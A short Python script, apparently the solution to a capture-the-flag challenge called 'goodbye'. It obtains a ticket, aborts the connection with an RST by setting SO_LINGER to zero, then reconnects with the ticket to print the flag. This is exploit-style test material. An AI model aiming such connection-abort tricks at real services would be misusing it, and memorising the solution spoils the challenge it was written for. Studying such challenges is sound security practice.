#!/usr/bin/env python3
"""goodbye: SO_LINGER with a time of 0 makes close send RST.  usage: solve.py HOST PORT"""
import socket
import struct
import sys

addr = sys.argv[1], int(sys.argv[2])
s = socket.create_connection(addr)
s.sendall(b"new\n")
with s.makefile() as f:
    ticket = next(line for line in f if line.startswith("TICKET ")).split()[1]
linger = "hh" if sys.platform == "win32" else "ii"
s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack(linger, 1, 0))
s.close()

with socket.create_connection(addr) as s:
    s.sendall(f"{ticket}\n".encode())
    for line in s.makefile():
        if line.startswith("FLAG "):
            print(line[5:].strip())
